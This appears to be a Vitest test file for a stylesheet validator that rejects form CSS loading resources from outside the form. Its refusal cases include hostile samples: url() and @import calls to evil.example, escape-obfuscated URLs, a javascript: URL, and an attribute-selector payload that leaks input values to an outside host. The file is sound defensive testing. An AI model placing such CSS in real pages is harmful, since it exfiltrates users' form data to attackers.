import { describe, expect, it } from 'vitest';
import { checkCss, unescapeCss } from './css';

const FILES = new Set(['form.html', 'form.css', 'img/bg.png', 'fonts/brand.woff2']);
const reasons = (css: string) => checkCss(css, 'form.css', FILES).map((p) => p.reason);

describe('form stylesheets', () => {
  it('accepts any CSS naming only images and fonts of the form', () => {
    const css = `@font-face { font-family: Brand; src: url(fonts/brand.woff2) format("woff2"), local(Arial); }
      :root { --accent: #0a7; --bg: url("img/bg.png"); }
      body { font: 16px Brand; background: var(--bg) no-repeat, image-set("img/bg.png" 1x); }
      cs-cvn input:focus { outline: 2px solid var(--accent) } input::placeholder { color: gray }
      @media (min-width: 400px) { .row { display: grid } } @supports (display: grid) { .a { color: red } }`;
    expect(reasons(css)).toEqual([]);
  });

  it.each([
    ['a{background:url(https://evil.example/x.png)}'],
    ['a{background:url("//evil.example/x.png")}'],
    ["a{background:url('javascript:alert(1)')}"],
    ['a{background:url(data:image/png;base64,AAAA)}'],
    ['a{background:url(img/bg.png?x=1)}'],
    ['a{background:url(../bg.png)}'],
    ['a{background:url(img/missing.png)}'],
    ['a{background:url(form.html)}'],
    ['a{background:image-set("https://evil.example/a.png" 1x)}'],
    ['a{background:-webkit-image-set(url(https://evil.example/a.png) 1x)}'],
    ['a{background:u\\72l(https://evil.example/a.png)}'],
    ['a{background:url(\\68ttps://evil.example/a.png)}'],
    ['a{background:url("\\68ttps://evil.example/a.png")}'],
    [':root{--x:url(https://evil.example/a.png)}'],
    ['a{cursor:url(https://evil.example/c.cur),auto}'],
    ['a{mask:url(https://evil.example/m.svg#m)}'],
    ['a{list-style-image:url(https://evil.example/l.png)}'],
    ['a{border-image:url(https://evil.example/b.png) 30}'],
    ['@font-face{font-family:x;src:url(https://evil.example/f.woff2)}'],
    ['@import "https://evil.example/x.css";'],
    ['@import url(form.css);'],
    ['@\\69mport "https://evil.example/x.css";'],
    ['@namespace svg url(http://www.w3.org/2000/svg);'],
    ['@font-face{font-family:d;src:url(fonts/brand.woff2);unicode-range:U+0030}'],
    ['input[value^="1"]{background:url(https://evil.example/1)}'],
  ])('refuses %s', (css) => {
    expect(reasons(css).length).toBeGreaterThan(0);
  });

  it('gives the line of each problem', () => {
    const found = checkCss('a{color:red}\n\nb{background:url(http://e.example)}\n@import "x";', 'form.css', FILES);
    expect(found.map((p) => p.line)).toEqual([3, 4]);
  });

  it('decodes CSS escapes as the browser reads them', () => {
    expect(unescapeCss('u\\72 l \\(')).toBe('url (');
    expect(unescapeCss('\\000068ttp')).toBe('http');
  });

  it('accepts an attribute selector naming a file of the form: inert, the input never holds its value in an attribute', () => {
    expect(reasons('input[value^="1"]{background:url(img/bg.png)}')).toEqual([]);
  });
});
